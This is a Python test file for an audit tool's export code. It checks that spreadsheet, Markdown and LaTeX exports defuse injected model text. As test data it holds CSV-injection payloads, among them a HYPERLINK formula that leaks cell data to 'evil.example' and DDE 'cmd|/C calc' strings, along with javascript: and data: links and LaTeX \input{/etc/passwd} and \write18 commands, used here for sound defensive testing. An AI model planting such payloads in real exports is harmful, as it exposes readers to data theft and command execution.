"""Issue 17 item 3: model text cannot become a spreadsheet formula, a Markdown link or LaTeX code.

Exports (user-facing downloads) are neutralised; the run store (``RUN_DIR/tables/*.csv``)
stays exact because clinaudit reads it back:

* CSV exports: ``generate``'s ``OUT/responses.csv``, every ``to_csv``/``write_exports`` file
  (``RUN_DIR/exports``, ``note-tables``, ``judge-agreement``), ``care-tables --export``,
  ``prevalence``, ``treatment-labels`` outputs, and every CSV download of ``report.html``
  (including the raw-table fallback of a failed section);
* ``report.md``: no link or image can form (``javascript:``, ``data:``, ``vbscript:``);
* ``tables.tex``: user text is escaped and comment lines stay one line.
"""

from __future__ import annotations

import base64
import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml

from clinaudit.cli.main import main
from clinaudit.export import neutralize_cell, to_csv, to_latex, to_markdown, write_exports
from clinaudit.report.base import Section, Table, Text, register_section
from clinaudit.report.render import build_report
from clinaudit.rundir import RunDir

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
LINKS = ["[click](javascript:alert(1))", "![img](data:text/html;base64,PHNjcmlwdD4=)", "[v](vbscript:msgbox(1))",
         "<javascript:alert(1)>", "[ref]\n\n[ref]: javascript:alert(1)"]
NUMBERS = ["-0.5", "+3", "1e-3", "-1E+5", "12", "-.25"]


def _formula(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? (OWASP's first characters, unless a plain number.)"""
    return bool(cell) and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


# ---- the rule ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_leading_quote(value):
    assert neutralize_cell(value) == "'" + value.replace("\r", "\n")


def test_a_lone_carriage_return_cannot_start_a_new_row():
    text = to_csv(pd.DataFrame({"a": ["ok\r=1+1", "x\r\n=2"]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a"], ["ok\n=1+1"], ["x\r\n=2"]]
    assert pd.DataFrame({"a": ["ok\r=1+1"]}).to_csv(index=False) == "a\nok\r=1+1\n"  # what pandas alone writes


@pytest.mark.parametrize("value", NUMBERS + ["", "ok", "–", "a=b", " =1", 5, -0.5, None])
def test_numbers_and_plain_text_are_unchanged(value):
    assert neutralize_cell(value) == value


def test_csv_export_neutralises_text_but_keeps_numbers_numbers(tmp_path):
    df = pd.DataFrame({"case_id": FORMULAS + ["ok"], "score": [-0.5, 1.0, -2.0, 3.0, 4.0, 5.0, -6.0],
                       "as_text": NUMBERS + ["-x"], "=header": ["a"] * 7})
    text = to_csv(df, tmp_path / "e.csv")
    assert not [c for c in _cells(text) if _formula(c)]
    back = pd.read_csv(tmp_path / "e.csv", dtype={"as_text": str})
    assert back["score"].tolist() == [-0.5, 1.0, -2.0, 3.0, 4.0, 5.0, -6.0]  # still numbers
    assert back["as_text"].tolist()[:6] == NUMBERS and back["as_text"].tolist()[6] == "'-x"
    assert back["case_id"].tolist() == ["'" + f.replace("\r", "\n") for f in FORMULAS] + ["ok"]
    assert list(back.columns)[-1] == "'=header"
    assert to_csv(df, safe=False) == df.to_csv(index=False)  # the exact writer, for data files
    paths = write_exports(df, tmp_path / "x", "t", formats=["csv"])
    assert not [c for c in _cells(paths["csv"].read_text(encoding="utf-8")) if _formula(c)]


# ---- a real run: generate's export vs the store, the report's downloads --------------------------


@pytest.fixture()
def formula_run(tmp_path: Path) -> Path:
    rules = tmp_path / "rules.yaml"
    rules.write_text(yaml.safe_dump({"rules": [{"match": "question 0", "response": FORMULAS[0]},
                                               {"match": "question 1", "response": "- item one\n- item two"},
                                               {"match": ".", "response": "=1+1"}]}), encoding="utf-8")
    inp = tmp_path / "in.csv"
    pd.DataFrame({"id": ["@SUM(1+1)", "-0.5", "=cmd"], "text": ["question 0", "question 1", "question 2"]}).to_csv(
        inp, index=False)
    out = tmp_path / "gen"
    assert main(["generate", "--input", str(inp), "--id-column", "id", "--text-column", "text", "--model", "mock",
                 "--mock-rules", str(rules), "--out", str(out), "--no-progress"]) == 0
    return out


def test_generate_export_is_neutralised_and_the_store_is_exact(formula_run):
    export = (formula_run / "responses.csv").read_text(encoding="utf-8")
    assert not [c for c in _cells(export) if _formula(c)]
    # the run store is safe to open too (issue 33) ...
    assert not [c for c in _cells((formula_run / "tables" / "responses.csv").read_text(encoding="utf-8"))
                if _formula(c)]
    # ... and its one reader gives the exact values back, for re-analysis
    from clinaudit.rundir import read_store_table

    store = read_store_table(formula_run / "tables" / "responses.csv", dtype={"id": str})
    assert store["id"].tolist() == ["@SUM(1+1)", "-0.5", "=cmd"]
    assert store["response"].tolist() == [FORMULAS[0], "- item one\n- item two", "=1+1"]
    shown = pd.read_csv(formula_run / "responses.csv", dtype={"id": str})
    assert shown["id"].tolist() == ["'@SUM(1+1)", "-0.5", "'=cmd"]  # -0.5 is a number: unchanged
    assert shown["seed"].tolist() == [0, 0, 0]


@register_section("test_formula_error")
def _failing(rundir) -> Section:
    raise ValueError("section fails: the raw tables are offered instead")


def _downloads(html: str) -> list[str]:
    return [base64.b64decode(m).decode("utf-8") for m in re.findall(r"data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)", html)]


def test_report_csv_downloads_are_neutralised(formula_run, tmp_path):
    bad = RunDir(tmp_path / "bad")
    bad.start(spec={"audit": "test_formula_error"}, command="test")
    bad.write_table("responses", pd.DataFrame({"case_id": FORMULAS, "value": [-0.5, 1, 2, 3, 4, 5]}))
    bad.finish(usage={}, audit="test_formula_error", status="complete")
    bad.close()
    html = build_report([formula_run, bad.path], tmp_path / "report.html").html.read_text(encoding="utf-8")
    downloads = _downloads(html)
    assert len(downloads) >= 2  # the generate section's table and the failed section's raw table
    cells = [c for d in downloads for c in _cells(d)]
    assert "'" + FORMULAS[0] in cells and "-0.5" in cells
    assert [c for c in cells if _formula(c)] == []


# ---- report.md and tables.tex ---------------------------------------------------------------------

TEX_BAD = "x\n\\input{/etc/passwd}\n\n\\write18{calc}"


@register_section("test_link_section")
def _links(rundir) -> Section:
    df = pd.DataFrame({"text": LINKS, LINKS[0]: [1, 2, 3, 4, 5], "tex": [TEX_BAD] * 5})
    return Section(title=f"Links {LINKS[0]}", audit="test_link_section",
                   blocks=[Text(LINKS[1]), Table(title=LINKS[2], df=df, caption=LINKS[4], name="links")])


def _links_and_images(md: str) -> list[tuple[str, dict]]:
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark").enable("table")
    parser.validateLink = lambda url: True  # a permissive renderer: any scheme is a link
    found = []

    def walk(tokens):
        for t in tokens:
            if t.type in ("link_open", "image", "html_inline", "html_block"):
                found.append((t.type, dict(t.attrs or {})))
            if t.children:
                walk(t.children)

    walk(parser.parse(md))
    return found


def test_report_markdown_and_latex_exports_are_inert(tmp_path):
    rd = RunDir(tmp_path / "links")
    rd.start(spec={"audit": "test_link_section"}, command="test")
    rd.finish(usage={}, audit="test_link_section", status="complete")
    rd.close()
    files = build_report(rd.path, tmp_path / "report.html", title=f"Report {LINKS[0]}\n\\input{{/etc/passwd}}")
    md = files.markdown.read_text(encoding="utf-8")
    assert "javascript:alert(1)" in md  # the text is kept, as text
    assert _links_and_images(md) == []
    tex = files.latex.read_text(encoding="utf-8")
    code = [ln for ln in tex.splitlines() if not ln.startswith("%")]
    assert not [ln for ln in code if re.search(r"\\(input|write18)\b", ln)], tex
    assert r"\textbackslash{}input\{/etc/passwd\}" in tex
    body = tex[tex.index(r"\begin{tabular}"): tex.index(r"\end{tabular}")]
    assert "\n\n" not in body  # a blank line inside a cell would end the paragraph (and break the table)


def test_export_helpers_escape_links_and_latex():
    md = to_markdown(pd.DataFrame({"t": LINKS}))
    assert _links_and_images(md) == []
    assert "\\[click\\](javascript:alert(1))" in md
    tex = to_latex(pd.DataFrame({"t": [TEX_BAD]}))
    assert r"\input" not in tex.replace(r"\textbackslash{}input", "")
